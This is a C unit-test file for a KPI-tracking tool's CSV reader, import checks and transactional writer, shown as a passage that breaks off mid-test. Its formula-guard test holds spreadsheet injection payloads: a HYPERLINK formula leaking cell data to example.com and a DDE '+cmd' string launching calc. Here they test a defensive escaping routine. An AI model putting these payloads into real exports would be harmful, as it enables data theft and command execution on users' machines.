/* test-csv-import.c: reading quarterly values from CSV, and writing them
 *
 * The file reader first (RFC 4180: quotes, BOM, CRLF, faults with their
 * line), then the checks against the sample programme (each refusal a
 * case of its own), then the writer: one transaction, nothing written
 * until it is run, and a cancel that leaves the database as it was.
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */
#include "config.h"

#include <glib/gstdio.h>
#include <locale.h>

#include "model/pm-enums.h"
#include "pm-csv.h"
#include "util/pm-csv-cell.h"
#include "pm-progress-import.h"
#include "pm-progress-writer.h"
#include "pm-test-sample.h"
#include "pm-store.h"
#include "pm-store-error.h"

/* Two KPIs of the sample programme (Appendix A): a count with a comma in
 * its title, and a percentage. */
#define CANNOCK "Cannock Chase"
#define CANNOCK_PILOT "Chadsmoor & Western Springs Community Family Intervention Service"
#define WCFC_KPI "WCFC to work with 75 families not supported by any other agency, within 12 months"
#define LICHFIELD "Lichfield"
#define LICHFIELD_PILOT "Community managed family centres in Burntwood"
#define REACH_KPI "Increase Early Years reach (by Wards) quarterly"

#define HEADER "district,pilot,kpi,period,value,note\r\n"
#define WCFC_ROW(period, value, note) \
  CANNOCK "," CANNOCK_PILOT ",\"" WCFC_KPI "\"," period "," value "," note "\r\n"
#define REACH_ROW(period, value, note) \
  LICHFIELD "," LICHFIELD_PILOT "," REACH_KPI "," period "," value "," note "\r\n"

/* ---- the reader --------------------------------------------------------- */

static GPtrArray *
parse_ok (const char *text)
{
  g_autoptr(GError) error = NULL;
  GPtrArray *records = pm_csv_parse (text, strlen (text), &error);

  g_assert_no_error (error);
  g_assert_nonnull (records);
  return records;
}

static const char *
field (GPtrArray *records,
       guint      record,
       guint      index)
{
  PmCsvRecord *r = g_ptr_array_index (records, record);

  g_assert_cmpuint (index, <, g_strv_length (r->fields));
  return r->fields[index];
}

static void
test_reader_quotes (void)
{
  g_autoptr(GPtrArray) records = parse_ok ("a,\"b, with comma\",\"say \"\"hi\"\"\"\r\n"
                                           "\"two\nlines\",,x\r\n");

  g_assert_cmpuint (records->len, ==, 2);
  g_assert_cmpstr (field (records, 0, 0), ==, "a");
  g_assert_cmpstr (field (records, 0, 1), ==, "b, with comma");
  g_assert_cmpstr (field (records, 0, 2), ==, "say \"hi\"");
  g_assert_cmpstr (field (records, 1, 0), ==, "two\nlines");
  g_assert_cmpstr (field (records, 1, 1), ==, "");
  g_assert_cmpstr (field (records, 1, 2), ==, "x");
  /* The second record starts on line 2; the one after it would be on 4. */
  g_assert_cmpuint (((PmCsvRecord *) g_ptr_array_index (records, 1))->line, ==, 2);
}

static void
test_reader_line_ends (void)
{
  g_autoptr(GPtrArray) crlf = parse_ok ("a,b\r\nc,d\r\n");
  g_autoptr(GPtrArray) lf = parse_ok ("a,b\nc,d");
  g_autoptr(GPtrArray) blank = parse_ok ("a,b\n\n\nc,d\n\n");

  g_assert_cmpuint (crlf->len, ==, 2);
  g_assert_cmpstr (field (crlf, 0, 1), ==, "b");   /* no \r left behind */
  g_assert_cmpstr (field (crlf, 1, 1), ==, "d");
  g_assert_cmpuint (lf->len, ==, 2);
  g_assert_cmpstr (field (lf, 1, 1), ==, "d");
  g_assert_cmpuint (blank->len, ==, 2);
  g_assert_cmpuint (((PmCsvRecord *) g_ptr_array_index (blank, 1))->line, ==, 4);
}

static void
test_reader_bom (void)
{
  g_autoptr(GPtrArray) records = parse_ok ("\xEF\xBB\xBF" "district,pilot\r\n");

  g_assert_cmpstr (field (records, 0, 0), ==, "district");
}

static void
test_reader_faults (void)
{
  static const struct { const char *text; const char *line; } cases[] = {
    { "a,b\nc,\"open\n\nd\n", "Line 2:" },        /* a quote never closed */
    { "a,b\nc,d\"e\n", "Line 2:" },               /* a quote inside a plain field */
    { "a\n\"x\"y,z\n", "Line 2:" },               /* text after a closing quote */
    { "a,b\nc,\xC3\x28\n", "Line 2:" },           /* not UTF-8 */
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr(GError) error = NULL;
      g_autoptr(GPtrArray) records = pm_csv_parse (cases[i].text, strlen (cases[i].text), &error);

      g_assert_null (records);
      g_assert_error (error, PM_FILE_ERROR, PM_FILE_ERROR_MALFORMED);
      g_assert_true (g_str_has_prefix (error->message, cases[i].line));
    }
}

static void
test_writer_field (void)
{
  g_autoptr(GString) out = g_string_new (NULL);
  g_autoptr(GPtrArray) back = NULL;
  const char *hard = "He said \"yes\", twice\nthen left";

  pm_csv_append_field (out, "plain");
  g_string_append_c (out, ',');
  pm_csv_append_field (out, hard);
  g_string_append_c (out, ',');
  pm_csv_append_field (out, NULL);
  g_string_append (out, "\r\n");

  g_assert_cmpstr (out->str, ==, "plain,\"He said \"\"yes\"\", twice\nthen left\",\r\n");
  back = parse_ok (out->str);
  g_assert_cmpstr (field (back, 0, 1), ==, hard);
  g_assert_cmpstr (field (back, 0, 2), ==, "");
}

/* Text a spreadsheet would run as a formula gets an apostrophe before
 * it, numbers never do, and reading the field back takes off exactly the
 * apostrophe that was added. */
static void
test_writer_formula_guard (void)
{
  static const struct { const char *text; const char *written; } cases[] = {
    { "=HYPERLINK(\"http://example.com/?\"&A1,\"Click\")",
      "\"'=HYPERLINK(\"\"http://example.com/?\"\"&A1,\"\"Click\"\")\"" },
    { "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0" },
    { "@SUM(1+1)", "'@SUM(1+1)" },
    { "-2+3", "'-2+3" },
    { "\tTabbed", "'\tTabbed" },
    { "\rReturned", "\"'\rReturned\"" },
    { "'=Marked already", "''=Marked already" },
    { "''+Twice", "'''+Twice" },
    { "'Quoted, not a formula", "\"'Quoted, not a formula\"" },
    { "'", "'" },
    { "Plain words = fine", "Plain words = fine" },
    { "-5", "-5" },
    { "-0.25", "-0.25" },
    { "12", "12" },
    { "-", "'-" },
    { "-5.", "'-5." },
    { "-1e5", "'-1e5" },
    { "", "" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr(GString) out = g_string_new (NULL);
      g_autoptr(GPtrArray) back = NULL;
      g_autofree char *read = NULL;

      pm_csv_append_cell (out, cases[i].text);
      g_assert_cmpstr (out->str, ==, cases[i].written);

      g_string_append (out, ",x\r\n");
      back = parse_ok (out->str);
      read = g_strdup (field (back, 0, 0));
      pm_csv_strip_formula_guard (read);
      g_assert_cmpstr (read, ==, cases[i].text);
    }
}

/* ---- checking rows against the programme -------------------------------- */

typedef struct
{
  char        *dir;
  char        *db;
  PmStore     *store;
  PmProgramme *programme;
} Fixture;

static void
fixture_set_up (Fixture       *fixture,
                gconstpointer  data G_GNUC_UNUSED)
{
  fixture->dir = pm_test_dir_new ("pm-csv");
  fixture->db = g_build_filename (fixture->dir, "programme.db", NULL);
  fixture->store = pm_test_sample_store_new (fixture->db, &fixture->programme);
}

static void
fixture_tear_down (Fixture       *fixture,
                   gconstpointer  data G_GNUC_UNUSED)
{
  g_clear_object (&fixture->programme);
  pm_test_store_clear (&fixture->store);
  pm_test_clear_dir (&fixture->dir);
  g_clear_pointer (&fixture->db, g_free);
}

static PmKpi *
find_kpi (PmProgramme *programme,
          const char  *district_name,
          const char  *pilot_title,
          const char  *kpi_title)
{
  return pm_test_find_kpi_titled (programme, district_name, pilot_title, kpi_title);
}

static PmProgressImport *
check (Fixture    *fixture,
       const char *text)
{
  g_autoptr(GError) error = NULL;
  PmProgressImport *import = pm_progress_import_new_from_csv (fixture->programme, text,
                                                              strlen (text), &error);

  g_assert_no_error (error);
  g_assert_nonnull (import);
  return import;
}

/* Exactly one row refused: on @line, its message naming @words. */
static void
assert_one_rejection (PmProgressImport *import,
                      guint             line,
                      const char       *words)
{
  const char *message;
  guint got_line = 0;

  g_assert_cmpuint (pm_progress_import_get_n_rejected (import), ==, 1);
  message = pm_progress_import_get_rejection (import, 0, &got_line);
  g_test_message ("%s", message);
  g_assert_cmpuint (got_line, ==, line);
  g_assert_nonnull (strstr (message, words));
}

static gint64
count_progress_rows (Fixture *fixture)
{
  g_autoptr(PmProgramme) loaded = pm_test_store_read (fixture->db, PM_STORE_OPEN_READ_ONLY);
  g_autoptr(GListModel) kpis = pm_programme_list_kpis (loaded);
  gint64 n = 0;

  for (guint i = 0; i < g_list_model_get_n_items (kpis); i++)
    {
      g_autoptr(PmKpi) kpi = g_list_model_get_item (kpis, i);
      n += g_list_model_get_n_items (pm_kpi_get_entries (kpi));
    }
  return n;
}

static double
stored_value (Fixture    *fixture,
              const char *district,
              const char *pilot,
              const char *title,
              const char *period_code)
{
  g_autoptr(PmProgramme) loaded = pm_test_store_read (fixture->db, PM_STORE_OPEN_READ_ONLY);
  g_autoptr(PmPeriod) period = pm_period_parse (period_code, NULL);
  PmProgressEntry *entry = pm_kpi_get_entry (find_kpi (loaded, district, pilot, title), period);

  g_assert_nonnull (entry);
  g_assert_true (pm_progress_entry_has_value (entry));
  return pm_progress_entry_get_value (entry);
}

static void
test_import_good_rows (Fixture       *fixture,
                       gconstpointer  data G_GNUC_UNUSED)
{
  /* A BOM, CRLF, a quoted title with a comma, a decorated percentage,
   * a note with a quoted comma, a changed value and an unchanged one. */
  g_autoptr(PmProgressImport) import =
    check (fixture, "\xEF\xBB\xBF" HEADER
                    WCFC_ROW ("FY2016-Q4", "9", "\"Nine, at last\"")
                    REACH_ROW ("FY2016-Q4", "46.5%", "")
                    WCFC_ROW ("FY2016-Q3", "6", "")
                    ",,,,,\r\n");
  PmProgressEntry *entry, *held;
  PmKpi *kpi;

  g_assert_cmpuint (pm_progress_import_get_n_rejected (import), ==, 0);
  g_assert_cmpuint (pm_progress_import_get_n_rows (import), ==, 3);
  g_assert_cmpuint (pm_progress_import_get_n_blank (import), ==, 1);
  g_assert_cmpuint (pm_progress_import_count_change (import, PM_IMPORT_CHANGE_NEW), ==, 2);
  g_assert_cmpuint (pm_progress_import_count_change (import, PM_IMPORT_CHANGE_CHANGED), ==, 1);

  g_assert_cmpuint (pm_progress_import_get_row (import, 0, &kpi, &entry, &held), ==, 2);
  g_assert_cmpstr (pm_kpi_get_title (kpi), ==, WCFC_KPI);
  g_assert_cmpfloat (pm_progress_entry_get_value (entry), ==, 9);
  g_assert_cmpstr (pm_progress_entry_get_note (entry), ==, "Nine, at last");
  g_assert_null (held);

  pm_progress_import_get_row (import, 1, &kpi, &entry, &held);
  g_assert_cmpstr (pm_kpi_get_title (kpi), ==, REACH_KPI);
  g_assert_cmpfloat (pm_progress_entry_get_value (entry), ==, 46.5);

  /* The sample holds 5 for WCFC in Q3 2016/17 (Appendix A): 6 changes it. */
  g_assert_cmpuint (pm_progress_import_get_change (import, 2), ==, PM_IMPORT_CHANGE_CHANGED);
  pm_progress_import_get_row (import, 2, NULL, &entry, &held);
  g_assert_nonnull (held);
  g_assert_cmpfloat (pm_progress_entry_get_value (held), ==, 5);
  g_assert_cmpfloat (pm_progress_entry_get_value (entry), ==, 6);
  /* An empty note keeps the lead's note. */
  g_assert_cmpstr (pm_progress_entry_get_note (entry), ==, pm_progress_entry_get_note (held));
  g_assert_nonnull (pm_progress_entry_get_note (held));
}

static void
test_import_unchanged (Fixture       *fixture,
                       gconstpointer  data G_GNUC_UNUSED)
{
  g_autoptr(PmProgressImport) import = check (fixture, HEADER WCFC_ROW ("FY2016-Q3", "5", ""));

  g_assert_cmpuint (pm_progress_import_count_change (import, PM_IMPORT_CHANGE_UNCHANGED), ==, 1);
}

static void
test_import_letters (Fixture       *fixture,
                     gconstpointer  data G_GNUC_UNUSED)
{
  g_autoptr(PmProgressImport) import = check (fixture, HEADER
                                                       WCFC_ROW ("FY2016-Q4", "9", "")
                                                       WCFC_ROW ("FY2017-Q1", "1O", ""));

  assert_one_rejection (import, 3, "not a number");
  g_assert_cmpuint (pm_progress_import_get_n_rows (import), ==, 1);
}

/* "0,500" is no count of 500 (or a half): refused as ambiguous, as are
 * other commas out of place; a count typed with a few units in the last
 * place to spare is the whole number; a real fraction is refused as it
 * was typed. */
static void
test_import_numbers (Fixture       *fixture,
                     gconstpointer  data G_GNUC_UNUSED)
{
  g_autoptr(PmProgressImport) import = check (fixture, HEADER
                                                       WCFC_ROW ("FY2016-Q4", "\"0,500\"", "")
                                                       WCFC_ROW ("FY2017-Q1", "\"1,23\"", "")
                                                       WCFC_ROW ("FY2017-Q2", "\"12,3456\"", "")
                                                       WCFC_ROW ("FY2017-Q3", "5.000000000000001", "")
                                                       WCFC_ROW ("FY2017-Q4", "5.0000001", "")
                                                       WCFC_ROW ("FY2018-Q1", "\"1,234\"", ""));
  PmProgressEntry *entry;
  guint line = 0;

  g_assert_cmpuint (pm_progress_import_get_n_rejected (import), ==, 4);
  g_assert_cmpstr (pm_progress_import_get_rejection (import, 0, &line), ==,
                   "Line 2: " WCFC_KPI ": “0,500” is ambiguous: a comma may only separate "
                   "thousands, as in 1,234 or 12,345,678. Write a decimal with a point (0.5), "
                   "or leave the comma out.");
  g_assert_cmpuint (line, ==, 2);
  g_assert_nonnull (strstr (pm_progress_import_get_rejection (import, 1, NULL), "“1,23” is ambiguous"));
  g_assert_nonnull (strstr (pm_progress_import_get_rejection (import, 2, NULL), "“12,3456” is ambiguous"));
  g_assert_cmpstr (pm_progress_import_get_rejection (import, 3, &line), ==,
                   "Line 6: " WCFC_KPI ": A count must be a whole number, not 5.0000001.");

  g_assert_cmpuint (pm_progress_import_get_n_rows (import), ==, 2);
  g_assert_cmpuint (pm_progress_import_get_row (import, 0, NULL, &entry, NULL), ==, 5);
  g_assert_cmpfloat (pm_progress_entry_get_value (entry), ==, 5);
  g_assert_cmpuint (pm_progress_import_get_row (import, 1, NULL, &entry, NULL), ==, 7);
  g_assert_cmpfloat (pm_progress_entry_get_value (entry), ==, 1234);
}

static void
test_import_percentage_over_100 (Fixture       *fixture,
                                 gconstpointer  data G_GNUC_UNUSED)
{
  g_autoptr(PmProgressImport) import = check (fixture, HEADER REACH_ROW ("FY2016-Q4", "140", ""));

  assert_one_rejection (import, 2, "100");
  g_assert_cmpuint (pm_progress_import_get_n_rows (import), ==, 0);
}

static void
test_import_unknown_names (Fixture       *fixture,
                           gconstpointer  data G_GNUC_UNUSED)
{
  g_autoptr(PmProgressImport) kpi = check (fixture, HEADER CANNOCK "," CANNOCK_PILOT ",No such KPI,FY2016-Q4,1,\r\n");
  g_autoptr(PmProgressImport) pilot = check (fixture, HEADER CANNOCK ",No such pilot,x,FY2016-Q4,1,\r\n");
  g_autoptr(PmProgressImport) district = check (fixture, HEADER "Atlantis,p,k,FY2016-Q4,1,\r\n");

  assert_one_rejection (kpi, 2, "no KPI called “No such KPI”");
  assert_one_rejection (pilot, 2, "no pilot called “No such pilot”");
  assert_one_rejection (district, 2, "no district is called “Atlantis”");
}

static void
test_import_names_loosely (Fixture       *fixture,
                           gconstpointer  data G_GNUC_UNUSED)
{
  /* Case and spaces around names do not matter. */
  g_autoptr(PmProgressImport) import =
    check (fixture, HEADER " cannock chase ," CANNOCK_PILOT ",\"" WCFC_KPI "\",FY2016-Q4,3,\r\n");

  g_assert_cmpuint (pm_progress_import_get_n_rejected (import), ==, 0);
  g_assert_cmpuint (pm_progress_import_get_n_rows (import), ==, 1);
}

static void
test_import_bad_period (Fixture       *fixture,
                        gconstpointer  data G_GNUC_UNUSED)
{
  g_autoptr(PmProgressImport) q5 = check (fixture, HEADER WCFC_ROW ("FY2016-Q5", "1", ""));
  g_autoptr(PmProgressImport) words = check (fixture, HEADER WCFC_ROW ("Decem 2016", "1", ""));
  g_autoptr(PmProgressImport) month = check (fixture, HEADER WCFC_ROW ("December 2016", "1", ""));
  g_autoptr(PmProgressImport) year = check (fixture, HEADER WCFC_ROW ("2016/17", "1", ""));

  assert_one_rejection (q5, 2, "“FY2016-Q5” is not a period");
  assert_one_rejection (words, 2, "“Decem 2016” is not a period");
  /* The forms it names include a calendar year's, for calendar-yearly KPIs. */
  assert_one_rejection (words, 2, "FY2016-Q3, FY2016, FY2016-M07 or CY2016.");
  /* A period, but not of the KPI's frequency: the message names both. */
  assert_one_rejection (month, 2, "is reported quarterly; “FY2016-M09” is a monthly period.");
  assert_one_rejection (year, 2, "is reported quarterly; “FY2016” is a yearly period.");
}

static void
test_import_field_count (Fixture       *fixture,
                         gconstpointer  data G_GNUC_UNUSED)
{
  /* The title's comma is not quoted: one field too many. */
  g_autoptr(PmProgressImport) import =
    check (fixture, HEADER CANNOCK "," CANNOCK_PILOT "," WCFC_KPI ",FY2016-Q4,1,\r\n");

  assert_one_rejection (import, 2, "7 fields where the first line names 6");
}

static void
test_import_repeated_row (Fixture       *fixture,
                          gconstpointer  data G_GNUC_UNUSED)
{
  g_autoptr(PmProgressImport) import = check (fixture, HEADER
                                                       WCFC_ROW ("FY2016-Q4", "1", "")
                                                       WCFC_ROW ("FY2016-Q4", "2", ""));

  /* The second row is refused, the first kept: whether it is saved is
   * for the user to say (nothing is, unless they accept the valid rows). */
  assert_one_rejection (import, 3, "line 2 already gives FY2016-Q4 for this KPI");
  g_assert_nonnull (strstr (pm_progress_import_get_rejection (import, 0, NULL), "this row is refused"));
  g_assert_null (strstr (pm_progress_import_get_rejection (import, 0, NULL), "only the first is used"));
  g_assert_cmpuint (pm_progress_import_get_n_rows (import), ==, 1);
}

static void
test_import_bad_files (Fixture       *fixture,
                       gconstpointer  data G_GNUC_UNUSED)
{
  static const struct { const char *text; int code; } cases[] = {
    { "", PM_FILE_ERROR_WRONG_FORMAT },
    { "district,pilot,kpi,value\r\nx,y,z,1\r\n", PM_FILE_ERROR_WRONG_FORMAT },  /* no period */
    { "district,district,pilot,kpi,period,value\r\n", PM_FILE_ERROR_WRONG_FORMAT },
    { HEADER "\"open,,,,,\r\n", PM_FILE_ERROR_MALFORMED },
    { "{\"format\": \"pilot-monitor\"}\n", PM_FILE_ERROR_MALFORMED },       /* JSON */
    { "just some words\nand more\n", PM_FILE_ERROR_WRONG_FORMAT },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr(GError) error = NULL;
      g_autoptr(PmProgressImport) import =
        pm_progress_import_new_from_csv (fixture->programme, cases[i].text,
                                         strlen (cases[i].text), &error);

      g_assert_null (import);
      g_assert_error (error, PM_FILE_ERROR, cases[i].code);
      g_test_message ("%s", error->message);
    }
}

/* ---- writing ------------------------------------------------------------ */

static void
test_write_commits (Fixture       *fixture,
                    gconstpointer  data G_GNUC_UNUSED)
{
  g_autoptr(PmProgressImport) import = check (fixture, HEADER
                                                       WCFC_ROW ("FY2016-Q4", "9", "")
                                                       REACH_ROW ("FY2016-Q4", "46.5", "")
                                                       WCFC_ROW ("FY2016-Q3", "6", "")
                                                       REACH_ROW ("FY2016-Q4", "abc", ""));
  g_autoptr(PmProgressWriter) writer = NULL;
  g_autoptr(GError) error = NULL;
  g_autoptr(PmPeriod) q4 = pm_period_new (2016, 4);
  gint64 before = count_progress_rows (fixture);
  PmKpi *wcfc = find_kpi (fixture->programme, CANNOCK, CANNOCK_PILOT, WCFC_KPI);

  /* Checking wrote nothing. */
  g_assert_cmpint (count_progress_rows (fixture), ==, before);
  g_assert_null (pm_kpi_get_entry (wcfc, q4));

  writer = pm_progress_writer_new (fixture->store, import);
  g_assert_true (pm_progress_writer_run (writer, NULL, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (pm_progress_writer_get_n_written (writer), ==, 3);

  g_assert_cmpint (count_progress_rows (fixture), ==, before + 2);
  g_assert_cmpfloat (stored_value (fixture, CANNOCK, CANNOCK_PILOT, WCFC_KPI, "FY2016-Q4"), ==, 9);
  g_assert_cmpfloat (stored_value (fixture, CANNOCK, CANNOCK_PILOT, WCFC_KPI, "FY2016-Q3"), ==, 6);
  g_assert_cmpfloat (stored_value (fixture, LICHFIELD, LICHFIELD_PILOT, REACH_KPI, "FY2016-Q4"), ==, 46.5);
  /* The model follows the file. */
  g_assert_nonnull (pm_kpi_get_entry (wcfc, q4));
  g_assert_cmpfloat (pm_progress_entry_get_value (pm_kpi_get_entry (wcfc, q4)), ==, 9);
}

static void
test_write_cancel (Fixture       *fixture,
                   gconstpointer  data G_GNUC_UNUSED)
{
  g_autoptr(GString) csv = g_string_new (HEADER);
  g_autoptr(PmProgressImport) import = NULL;
  g_autoptr(PmProgressWriter) writer = NULL;
  g_autoptr(GError) error = NULL;
  g_autoptr(PmPeriod) q3 = pm_period_new (2016, 3);
  PmKpi *wcfc = find_kpi (fixture->programme, CANNOCK, CANNOCK_PILOT, WCFC_KPI);
  gint64 before = count_progress_rows (fixture);

  /* Forty quarters for one KPI, the first a change to a held value. */
  for (int i = 0; i < 40; i++)
    {
      g_autoptr(PmPeriod) period = pm_period_new_from_index (pm_period_get_index (q3) + i);
      g_autofree char *code = pm_period_to_code (period);

      g_string_append_printf (csv, CANNOCK "," CANNOCK_PILOT ",\"" WCFC_KPI "\",%s,%d,\r\n",
                              code, 20 + i);
    }
  import = check (fixture, csv->str);
  g_assert_cmpuint (pm_progress_import_get_n_rows (import), ==, 40);

  writer = pm_progress_writer_new (fixture->store, import);
  g_assert_true (pm_progress_writer_begin (writer, &error));
  g_assert_false (pm_progress_writer_step (writer, 25, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (pm_progress_writer_get_position (writer), ==, 25);

  /* Half-way, another edit is refused rather than mixed into the import. */
  {
    g_autoptr(PmProgressEntry) entry = pm_progress_entry_new (q3);
    g_autoptr(GError) busy = NULL;

    pm_progress_entry_set_value (entry, 1);
    g_assert_false (pm_store_save_entry (fixture->store, wcfc, entry, &busy));
    g_assert_error (busy, PM_STORE_ERROR, PM_STORE_ERROR_LOCKED);
  }

  pm_progress_writer_cancel (writer);

  g_assert_cmpint (count_progress_rows (fixture), ==, before);
  g_assert_cmpfloat (stored_value (fixture, CANNOCK, CANNOCK_PILOT, WCFC_KPI, "FY2016-Q3"), ==, 5);
  g_assert_cmpfloat (pm_progress_entry_get_value (pm_kpi_get_entry (wcfc, q3)), ==, 5);

  /* And the store takes edits again. */
  {
    g_autoptr(PmProgressEntry) entry = pm_progress_entry_new (q3);

    pm_progress_entry_set_value (entry, 7);
    g_assert_true (pm_store_save_entry (fixture->store, wcfc, entry, &error));
    g_assert_no_error (error);
  }
}

static void
test_write_cancellable (Fixture       *fixture,
                        gconstpointer  data G_GNUC_UNUSED)
{
  g_autoptr(GString) csv = g_string_new (HEADER);
  g_autoptr(GListModel) kpis = pm_programme_list_kpis (fixture->programme);
  g_autoptr(PmProgressImport) import = NULL;
  g_autoptr(PmProgressWriter) writer = NULL;
  g_autoptr(GCancellable) cancellable = g_cancellable_new ();
  g_autoptr(GError) error = NULL;
  gint64 before = count_progress_rows (fixture);

  /* Every KPI for 80 quarters: more rows than one slice of run(), so the
   * cancel is seen with rows still to write. */
  for (guint i = 0; i < g_list_model_get_n_items (kpis); i++)
    {
      g_autoptr(PmKpi) kpi = g_list_model_get_item (kpis, i);
      PmPilot *pilot = pm_kpi_get_pilot (kpi);
      PmDistrict *district = pm_pilot_get_district (pilot);

      for (int q = 0; q < 80; q++)
        {
          g_autoptr(PmPeriod) period = pm_period_new (2017 + q / 4, 1 + q % 4);
          g_autofree char *code = pm_period_to_code (period);

          pm_csv_append_field (csv, pm_district_get_name (district));
          g_string_append_c (csv, ',');
          pm_csv_append_field (csv, pm_pilot_get_title (pilot));
          g_string_append_c (csv, ',');
          pm_csv_append_field (csv, pm_kpi_get_title (kpi));
          g_string_append_printf (csv, ",%s,1,\r\n", code);
        }
    }
  import = check (fixture, csv->str);
  g_assert_cmpuint (pm_progress_import_get_n_rejected (import), ==, 0);
  g_assert_cmpuint (pm_progress_import_get_n_rows (import), >, 4096);

  writer = pm_progress_writer_new (fixture->store, import);
  g_cancellable_cancel (cancellable);
  g_assert_false (pm_progress_writer_run (writer, cancellable, &error));
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
  g_assert_cmpint (count_progress_rows (fixture), ==, before);
  g_assert_cmpuint (pm_progress_writer_get_n_written (writer), ==, 0);
}

/* Reviewed: WCFC's Q3 value 5 to change to 6, and a new Q4 value. Then
 * someone else deletes the Q3 value. The import writes nothing: the
 * deleted value is not put back, and Q4 is not half of an import. */
static void
test_write_deleted_since_review (Fixture       *fixture,
                                 gconstpointer  data G_GNUC_UNUSED)
{
  g_autoptr(PmProgressImport) import = check (fixture, HEADER
                                                       WCFC_ROW ("FY2016-Q3", "6", "")
                                                       WCFC_ROW ("FY2016-Q4", "9", ""));
  g_autoptr(PmProgressWriter) writer = NULL;
  g_autoptr(PmStore) other = NULL;
  g_autoptr(PmProgramme) other_programme = NULL;
  g_autoptr(GError) error = NULL;
  g_autoptr(PmPeriod) q3 = pm_period_new (2016, 3);
  g_autoptr(PmPeriod) q4 = pm_period_new (2016, 4);
  PmKpi *wcfc = find_kpi (fixture->programme, CANNOCK, CANNOCK_PILOT, WCFC_KPI);
  gint64 before;

  g_assert_cmpuint (pm_progress_import_count_change (import, PM_IMPORT_CHANGE_CHANGED), ==, 1);
  g_assert_cmpuint (pm_progress_import_count_change (import, PM_IMPORT_CHANGE_NEW), ==, 1);

  other = pm_store_open (fixture->db, PM_STORE_OPEN_DEFAULT, &error);
  g_assert_no_error (error);
  other_programme = pm_store_load (other, &error);
  g_assert_no_error (error);
  g_assert_true (pm_store_delete_entry (other, find_kpi (other_programme, CANNOCK, CANNOCK_PILOT, WCFC_KPI),
                                        q3, &error));
  g_assert_no_error (error);
  pm_store_close (other);
  before = count_progress_rows (fixture);

  writer = pm_progress_writer_new (fixture->store, import);
  g_assert_false (pm_progress_writer_run (writer, NULL, &error));
  g_assert_error (error, PM_STORE_ERROR, PM_STORE_ERROR_CONFLICT);
  g_test_message ("%s", error->message);
  g_assert_nonnull (strstr (error->message, "“" WCFC_KPI "” (Cannock Chase) for Q3 2016/17 was changed "
                                            "by someone else since you reviewed it; review again."));
  g_assert_cmpuint (pm_progress_writer_get_n_written (writer), ==, 0);
  g_assert_cmpint (count_progress_rows (fixture), ==, before);

  /* The window's model is as the review saw it, until it reloads. */
  g_assert_cmpfloat (pm_progress_entry_get_value (pm_kpi_get_entry (wcfc, q3)), ==, 5);
  g_assert_null (pm_kpi_get_entry (wcfc, q4));
}

static void
test_write_read_only (Fixture       *fixture,
                      gconstpointer  data G_GNUC_UNUSED)
{
  g_autoptr(PmProgressImport) import = check (fixture, HEADER WCFC_ROW ("FY2016-Q4", "9", ""));
  g_autoptr(PmProgressWriter) writer = NULL;
  g_autoptr(PmStore) read_only = NULL;
  g_autoptr(GError) error = NULL;

  pm_store_close (fixture->store);
  g_clear_object (&fixture->store);
  read_only = pm_store_open (fixture->db, PM_STORE_OPEN_READ_ONLY, &error);
  g_assert_no_error (error);

  writer = pm_progress_writer_new (read_only, import);
  g_assert_false (pm_progress_writer_run (writer, NULL, &error));
  g_assert_error (error, PM_STORE_ERROR, PM_STORE_ERROR_READ_ONLY);
  pm_store_close (read_only);
}

/* ---- in steps, as the window reads in a worker thread -------------------- */

#define CESS_KPI "CESS to work with 50 families not supported by any other agency, within 12 months"

/* The copy is taken; then, while a worker thread would read the file,
 * the office renames WCFC and saves 7 for its Q3 value. The file, naming
 * WCFC as it was called, is read against the copy, and the comparison
 * uses the KPI as it is now: its row is the renamed KPI, changing 7 to
 * 6, and the writer saves it without a conflict and updates the KPI. */
static void
test_steps_read_a_copy (Fixture       *fixture,
                        gconstpointer  data G_GNUC_UNUSED)
{
  const char *csv = HEADER WCFC_ROW ("FY2016-Q3", "6", "");
  g_autoptr(PmProgressImport) import = pm_progress_import_new (fixture->programme);
  g_autoptr(PmProgressWriter) writer = NULL;
  g_autoptr(PmPeriod) q3 = pm_period_new (2016, 3);
  g_autoptr(PmProgressEntry) seven = pm_progress_entry_new (q3);
  g_autoptr(GError) error = NULL;
  PmKpi *wcfc = find_kpi (fixture->programme, CANNOCK, CANNOCK_PILOT, WCFC_KPI);
  PmProgressEntry *entry, *held;
  PmKpi *kpi;

  pm_kpi_set_title (wcfc, "WCFC, renamed");
  g_assert_true (pm_store_update_kpi (fixture->store, wcfc, &error));
  g_assert_no_error (error);
  pm_progress_entry_set_value (seven, 7);
  g_assert_true (pm_store_save_entry (fixture->store, wcfc, seven, &error));
  g_assert_no_error (error);

  g_assert_true (pm_progress_import_read_csv (import, csv, strlen (csv), &error));
  g_assert_no_error (error);
  pm_progress_import_compare (import);

  g_assert_cmpuint (pm_progress_import_get_n_rejected (import), ==, 0);
  g_assert_cmpuint (pm_progress_import_get_n_rows (import), ==, 1);
  g_assert_cmpuint (pm_progress_import_get_row (import, 0, &kpi, &entry, &held), ==, 2);
  g_assert_true (kpi == wcfc);
  g_assert_true (held == pm_kpi_get_entry (wcfc, q3));
  g_assert_cmpfloat (pm_progress_entry_get_value (held), ==, 7);
  g_assert_cmpfloat (pm_progress_entry_get_value (entry), ==, 6);
  g_assert_cmpuint (pm_progress_import_get_change (import, 0), ==, PM_IMPORT_CHANGE_CHANGED);

  writer = pm_progress_writer_new (fixture->store, import);
  g_assert_true (pm_progress_writer_run (writer, NULL, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (pm_progress_writer_get_n_written (writer), ==, 1);
  g_assert_cmpfloat (stored_value (fixture, CANNOCK, CANNOCK_PILOT, "WCFC, renamed", "FY2016-Q3"), ==, 6);
  g_assert_cmpfloat (pm_progress_entry_get_value (pm_kpi_get_entry (wcfc, q3)), ==, 6);
}

/* While the file is read, WCFC is deleted and the reach KPI is made a
 * rate: their rows, read as a count and a percentage, are refused with
 * their lines (in the file's order, among the check's own refusals),
 * and the other rows stand. */
static void
test_steps_kpi_changed_while_read (Fixture       *fixture,
                                   gconstpointer  data G_GNUC_UNUSED)
{
  const char *csv = HEADER
                    REACH_ROW ("FY2016-Q4", "46.5", "")
                    WCFC_ROW ("FY2016-Q4", "9", "")
